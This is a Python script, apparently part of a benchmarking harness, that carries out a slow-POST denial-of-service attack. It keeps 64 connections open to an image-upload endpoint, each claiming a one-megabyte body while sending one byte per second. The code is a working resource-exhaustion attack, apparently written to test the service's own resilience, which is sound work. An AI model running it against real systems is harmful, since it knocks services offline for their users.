"""Uploads that announce a large body and send one byte per second."""

import socket
import time
from contextlib import ExitStack
from threading import Lock

from benchmarks.attacks.attack import Attack, repeat, run
from benchmarks.common import ORGANIZATION


def start(attack: Attack, stack: ExitStack) -> None:
    connections, lock = list[socket.socket](), Lock()
    head = attack.head(
        "POST",
        f"/sourceimages/{ORGANIZATION}",
        "Content-Length: 1000000",
        "Content-Type: multipart/form-data; boundary=attack",
    )
    first = b'--attack\r\nContent-Disposition: form-data; name="filedata"; filename="a.png"\r\n\r\n'

    def connect() -> None:
        with lock:
            missing = attack.count - len(connections)
        for _ in range(max(0, missing)):
            connection = attack.connect()
            connection.sendall(head + first)
            with lock:
                connections.append(connection)

    def drip() -> None:
        time.sleep(1)
        with lock:
            for connection in list(connections):
                try:
                    attack.note(connection)
                    connection.setblocking(True)
                    connection.sendall(b"x")
                except OSError:  # refused: another one is opened
                    connections.remove(connection)

    connect()
    repeat(attack, stack, connect, pause=1, threads=1)
    repeat(attack, stack, drip, pause=0, threads=1)


if __name__ == "__main__":
    run(start, __doc__, count=64, images=0)
